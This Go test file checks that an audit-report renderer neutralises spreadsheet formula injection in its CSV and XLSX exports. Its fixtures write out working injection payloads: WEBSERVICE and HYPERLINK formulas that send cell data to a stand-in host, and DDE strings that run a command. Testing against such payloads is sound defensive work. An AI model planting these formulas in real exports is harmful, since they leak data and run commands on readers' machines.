package reportrender

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/otelcol-audit/otelcol-audit/internal/audit"
)

func dublin(t testing.TB) *time.Location {
	loc, err := time.LoadLocation("Europe/Dublin")
	require.NoError(t, err)
	return loc
}

// testRows mixes ordinary events with every injection payload in every text column, and
// rows whose cells together build exfiltration formulas.
func testRows() []audit.Row {
	base := time.Date(2026, 3, 29, 0, 30, 0, 0, time.UTC) // Dublin switches to IST at 01:00 UTC
	rows := []audit.Row{
		{Time: base, Author: "alice@example.com", Category: "Authentication", Summary: "Login", Description: "Alice logged in, \"twice\"\nfrom the VPN", Outcome: "success", SourceIP: "10.0.0.1", Target: "alice", EventID: "e-1", Tenant: "acme"},
		{Time: base.Add(time.Hour), Author: "Zoë Ñúñez", Category: "Users", Summary: "User created", Description: "日本語 and emoji 🎉; CRLF\r\ninside", Outcome: "failure", SourceIP: "2001:db8::1", Target: "bob", EventID: "e-2", Tenant: "acme"},
	}
	payloads := slices.Clone(injectionPayloads)
	for _, p := range embeddedPayloads {
		payloads = append(payloads, p.in)
	}
	for i, p := range payloads {
		rows = append(rows, audit.Row{
			Time: base.Add(time.Duration(i) * time.Minute), Author: p, Category: p, Summary: p, Description: p,
			Outcome: p, SourceIP: p, Target: p, EventID: fmt.Sprintf("inj-%d", i), Tenant: p,
		})
	}
	return append(rows, chainRows(base)...)
}

// chainRows build formulas out of several cells: each cell alone looks like text, but a
// reader that splits on ";" or "," (or joins cells back) would get WEBSERVICE, HYPERLINK or
// DDE formulas that send another cell (A2: the date, B2: the author) to a remote host.
func chainRows(at time.Time) []audit.Row {
	return []audit.Row{
		{Time: at, Author: "bob", Category: `x;=WEBSERVICE("http://x.example/?"`, Summary: `&A2)`, Description: "secret", EventID: "chain-1"},
		{Time: at, Author: `x,=WEBSERVICE(CONCATENATE("http://x.example/?",B2`, Category: `,C2))`, EventID: "chain-2"},
		{Time: at, Author: "carol", Summary: `note;=HYPERLINK("http://x.example/?"&A2;"Click to view")`, EventID: "chain-3"},
		{Time: at, Author: "dave", Description: "ok\t=cmd|' /C calc'!A0", Target: "x;@SUM(1+1)*cmd|' /C calc'!A0", EventID: "chain-4"},
		{Time: at, Author: "erin", Description: "line 1\r\n=WEBSERVICE(\"http://x.example/?\"&B2)", EventID: "chain-5"},
		{Time: at, Author: "frank", Description: `a;"=WEBSERVICE(""http://x.example/"")"`, SourceIP: "10.0.0.1;+1", EventID: "chain-6"},
	}
}

// expectedCells is what a reader must get back for a row: for CSV, SafeCSVCell's text;
// XLSX keeps SafeCell's text, except characters XML 1.0 cannot hold, which become U+FFFD.
func expectedCells(r audit.Row, loc *time.Location, csvCells bool) []string {
	cells := make([]string, len(Columns))
	if csvCells {
		rowCells(&r, cells, loc, SafeCSVCell)
		return cells
	}
	rowCells(&r, cells, loc, SafeCell)
	for i, c := range cells {
		cells[i] = strings.Map(func(r rune) rune {
			if !xmlLegal(string(r)) {
				return '\uFFFD'
			}
			return r
		}, c)
	}
	return cells
}

func render(t testing.TB, format string, rows []audit.Row, loc *time.Location, opts ...Option) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(format, &buf, loc, opts...)
	require.NoError(t, err)
	for _, r := range rows {
		require.NoError(t, w.WriteRow(r))
	}
	require.NoError(t, w.Close())
	require.NoError(t, w.Close(), "second Close is a no-op")
	assert.ErrorIs(t, w.WriteRow(rows[0]), ErrClosed)
	return buf.Bytes()
}

func TestCSVRoundTrip(t *testing.T) {
	loc := dublin(t)
	rows := testRows()
	out := render(t, FormatCSV, rows, loc)

	require.True(t, bytes.HasPrefix(out, []byte(utf8BOM)), "BOM by default")
	assert.True(t, utf8.Valid(out))
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte(utf8BOM))))
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, records, len(rows)+1)
	assert.Equal(t, Columns, records[0])
	for i, row := range rows {
		assert.Equal(t, expectedCells(row, loc, true), records[i+1], "row %d", i)
		for _, cell := range records[i+1] {
			assertNoLeadingTrigger(t, cell)
		}
	}
	// Dates carry the zone's offset across the DST change.
	assert.Equal(t, "2026-03-29T00:30:00+00:00", records[1][0])
	assert.Equal(t, "2026-03-29T02:30:00+01:00", records[2][0])
	// RFC 4180 records end in CRLF, and every field is quoted.
	assert.Contains(t, string(out), "\"Tenant\"\r\n")
	assertAllQuoted(t, bytes.TrimPrefix(out, []byte(utf8BOM)))
	// Split on any separator, ignoring quotes, as Excel in a ";" locale or a line-based
	// tool might: no piece is a formula.
	assertNoSegmentTrigger(t, string(out))
}

// TestCSVSemicolonLocale: the cell that Excel with ";" as list separator used to split into
// "x" and a DDE formula is one quoted field, and its second half is neutralised.
func TestCSVSemicolonLocale(t *testing.T) {
	out := string(render(t, FormatCSV, []audit.Row{{Author: "x;=cmd|' /C calc'!A0", Description: "plain", EventID: "e-1"}}, time.UTC, WithBOM(false)))
	assert.Contains(t, out, `,"x;'=cmd|' /C calc'!A0",`)
	lines := strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n")
	require.Len(t, lines, 2)
	assert.Equal(t, `"","x;'=cmd|' /C calc'!A0","","","plain","","","","e-1",""`, lines[1])
	for _, piece := range strings.Split(lines[1], ";") {
		assertNoLeadingTrigger(t, strings.TrimLeft(piece, `"`))
	}
}

// TestCSVExfiltrationChains: cells that build WEBSERVICE, HYPERLINK and DDE formulas across
// separators come back with every piece neutralised, in CSV; XLSX keeps each cell as text.
func TestCSVExfiltrationChains(t *testing.T) {
	rows := chainRows(time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC))
	out := render(t, FormatCSV, rows, time.UTC, WithBOM(false))
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, len(rows)+1)
	for i, row := range rows {
		assert.Equal(t, expectedCells(row, time.UTC, true), records[i+1])
	}
	assert.Equal(t, `x;'=WEBSERVICE("http://x.example/?"`, records[1][2])
	assert.Equal(t, `x,'=WEBSERVICE(CONCATENATE("http://x.example/?",B2`, records[2][1])
	assert.Equal(t, `note;'=HYPERLINK("http://x.example/?"&A2;"Click to view")`, records[3][3])
	assert.Equal(t, "ok\t'=cmd|' /C calc'!A0", records[4][4])
	assert.Equal(t, "line 1\n'=WEBSERVICE(\"http://x.example/?\"&B2)", records[5][4])
	assert.Equal(t, `a;'"=WEBSERVICE(""http://x.example/"")"`, records[6][4])
	assert.Equal(t, "10.0.0.1;'+1", records[6][6])
	assertNoSegmentTrigger(t, string(out))

	xout := render(t, FormatXLSX, rows, time.UTC)
	assertNoFormulaXML(t, xout)
}

// assertAllQuoted checks that every field of every record is quoted (RFC 4180 with
// quoting on): a field opens with '"', '""' inside is a quote, and a field closes with '"'
// followed by ',' or CRLF.
func assertAllQuoted(t testing.TB, b []byte) {
	t.Helper()
	for i := 0; i < len(b); {
		if b[i] != '"' {
			t.Fatalf("byte %d: field does not start with a quote: %q", i, b[i:min(len(b), i+20)])
		}
		i++
		for {
			j := bytes.IndexByte(b[i:], '"')
			if j < 0 {
				t.Fatalf("unterminated field at byte %d", i)
			}
			i += j + 1
			if i < len(b) && b[i] == '"' {
				i++
				continue
			}
			break
		}
		switch {
		case i < len(b) && b[i] == ',':
			i++
		case bytes.HasPrefix(b[i:], []byte("\r\n")):
			i += 2
		default:
			t.Fatalf("byte %d: field not followed by a comma or CRLF: %q", i, b[i:min(len(b), i+20)])
		}
	}
}

func TestCSVWithoutBOMAndEmpty(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf, nil, WithBOM(false))
	require.NoError(t, w.Close())
	assert.Equal(t, `"`+strings.Join(Columns, `","`)+"\"\r\n", buf.String(), "an empty report still has its header")
}

func TestCSVInvalidUTF8(t *testing.T) {
	out := render(t, FormatCSV, []audit.Row{{Author: "bad\xffbyte"}}, time.UTC, WithBOM(false))
	assert.True(t, utf8.Valid(out))
	assert.Contains(t, string(out), "bad\uFFFDbyte")
}

func TestXLSXRoundTrip(t *testing.T) {
	loc := dublin(t)
	rows := testRows()
	out := render(t, FormatXLSX, rows, loc)

	assertNoFormulaXML(t, out)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	require.NoError(t, err)
	defer f.Close()
	assert.Equal(t, []string{SheetName}, f.GetSheetList())
	got, err := f.GetRows(SheetName)
	require.NoError(t, err)
	require.Len(t, got, len(rows)+1)
	assert.Equal(t, Columns, got[0])
	for i, row := range rows {
		assert.Equal(t, expectedCells(row, loc, false), padRow(got[i+1]), "row %d", i)
	}
}

func padRow(r []string) []string {
	for len(r) < len(Columns) {
		r = append(r, "")
	}
	return r
}

// assertNoFormulaXML unzips the workbook and checks every sheet: no <f> element, every cell
// an inline string, and no cell text starting with a trigger.
func assertNoFormulaXML(t *testing.T, xlsx []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	require.NoError(t, err)
	sheets := 0
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/sheet") {
			continue
		}
		sheets++
		rc, err := zf.Open()
		require.NoError(t, err)
		dec := xml.NewDecoder(rc)
		var inCell, inText bool
		var text strings.Builder
		for {
			tok, err := dec.Token()
			if err == io.EOF {
				break
			}
			require.NoError(t, err)
			switch el := tok.(type) {
			case xml.StartElement:
				switch el.Name.Local {
				case "f":
					t.Fatalf("%s has a formula element", zf.Name)
				case "c":
					inCell = true
					typ := ""
					for _, a := range el.Attr {
						if a.Name.Local == "t" {
							typ = a.Value
						}
					}
					assert.Equal(t, "inlineStr", typ, "%s: cell type", zf.Name)
				case "t":
					inText = inCell
					text.Reset()
				}
			case xml.CharData:
				if inText {
					text.Write(el)
				}
			case xml.EndElement:
				switch el.Name.Local {
				case "t":
					assertNoLeadingTrigger(t, text.String())
					inText = false
				case "c":
					inCell = false
				}
			}
		}
		require.NoError(t, rc.Close())
	}
	assert.Positive(t, sheets)
}

func TestXLSXRollover(t *testing.T) {
	old := maxSheetRows
	maxSheetRows = 4 // header + 3 rows per sheet
	t.Cleanup(func() { maxSheetRows = old })
	assert.Equal(t, 1048576, MaxSheetRows)

	var rows []audit.Row
	for i := range 8 {
		rows = append(rows, audit.Row{Time: time.Unix(int64(i), 0), EventID: fmt.Sprintf("e-%d", i), Author: "=evil"})
	}
	out := render(t, FormatXLSX, rows, time.UTC)
	assertNoFormulaXML(t, out)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	require.NoError(t, err)
	defer f.Close()
	require.Equal(t, []string{SheetName, SheetName + " (2)", SheetName + " (3)"}, f.GetSheetList())
	var ids []string
	for _, sheet := range f.GetSheetList() {
		got, err := f.GetRows(sheet)
		require.NoError(t, err)
		require.LessOrEqual(t, len(got), 4)
		assert.Equal(t, Columns, got[0], "each sheet has a header")
		for _, r := range got[1:] {
			ids = append(ids, r[8])
		}
	}
	assert.Equal(t, []string{"e-0", "e-1", "e-2", "e-3", "e-4", "e-5", "e-6", "e-7"}, ids)
}

func TestXLSXRolloverOnSize(t *testing.T) {
	old := maxSheetTextBytes
	maxSheetTextBytes = 100
	t.Cleanup(func() { maxSheetTextBytes = old })
	rows := []audit.Row{{Description: strings.Repeat("x", 80)}, {Description: strings.Repeat("y", 80)}}
	out := render(t, FormatXLSX, rows, time.UTC)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	require.NoError(t, err)
	defer f.Close()
	assert.Len(t, f.GetSheetList(), 2)
}

func TestXLSXTruncation(t *testing.T) {
	long := "=" + strings.Repeat("a", MaxCellChars)  // a trigger too, to check the prefix survives
	astral := strings.Repeat("🎉", MaxCellChars/2+10) // two UTF-16 units per rune
	exact := strings.Repeat("é", MaxCellChars)       // 2 bytes, one unit each: fits exactly
	out := render(t, FormatXLSX, []audit.Row{{Description: long, Target: astral, Author: exact}}, time.UTC)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	require.NoError(t, err)
	defer f.Close()
	got, err := f.GetRows(SheetName)
	require.NoError(t, err)
	desc, target, author := got[1][4], got[1][7], got[1][1]

	assert.True(t, strings.HasPrefix(desc, "'=aaa"))
	assert.True(t, strings.HasSuffix(desc, TruncationMarker))
	assert.Equal(t, MaxCellChars, utf16Len(desc))
	assert.True(t, strings.HasSuffix(target, TruncationMarker))
	assert.LessOrEqual(t, utf16Len(target), MaxCellChars)
	assert.True(t, utf8.ValidString(target))
	assert.Equal(t, exact, author)
}

func TestUnknownFormat(t *testing.T) {
	_, err := New("pdf", io.Discard, time.UTC)
	assert.ErrorContains(t, err, `"pdf"`)
}

func TestCompressed(t *testing.T) {
	payload := render(t, FormatCSV, testRows(), time.UTC)
	for _, kind := range []string{CompressionNone, CompressionGzip, CompressionZip} {
		t.Run("kind="+kind, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := NewCompressed(kind, &buf, "report.csv")
			require.NoError(t, err)
			_, err = w.Write(payload)
			require.NoError(t, err)
			require.NoError(t, w.Close())
			require.NoError(t, w.Close())

			var got []byte
			switch kind {
			case CompressionGzip:
				zr, err := gzip.NewReader(&buf)
				require.NoError(t, err)
				assert.Equal(t, "report.csv", zr.Name)
				got, err = io.ReadAll(zr)
				require.NoError(t, err)
			case CompressionZip:
				zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
				require.NoError(t, err)
				require.Len(t, zr.File, 1)
				assert.Equal(t, "report.csv", zr.File[0].Name)
				rc, err := zr.File[0].Open()
				require.NoError(t, err)
				got, err = io.ReadAll(rc)
				require.NoError(t, err)
			default:
				got = buf.Bytes()
			}
			assert.Equal(t, payload, got)
		})
	}
	assert.Equal(t, "r.csv.zip", CompressedName("r.csv", CompressionZip))
	assert.Equal(t, "r.csv.gz", CompressedName("r.csv", CompressionGzip))
	_, err := NewCompressed("brotli", io.Discard, "r.csv")
	assert.Error(t, err)
	for _, bad := range []string{"", "../x.csv", "a/b.csv", "x\r\n.csv"} {
		_, err := NewCompressed(CompressionZip, io.Discard, bad)
		assert.Error(t, err, "%q", bad)
	}
}

func TestSplitFormat(t *testing.T) {
	for in, want := range map[string][2]string{
		"csv": {"csv", ""}, "xlsx": {"xlsx", ""}, "csv.gz": {"csv", "gzip"}, "xlsx.zip": {"xlsx", "zip"},
	} {
		format, compression, err := SplitFormat(in)
		require.NoError(t, err, in)
		assert.Equal(t, want, [2]string{format, compression}, in)
	}
	for _, bad := range []string{"", "pdf", "csv.bz2", "csv.gz.gz", ".gz"} {
		_, _, err := SplitFormat(bad)
		assert.Error(t, err, bad)
	}
}
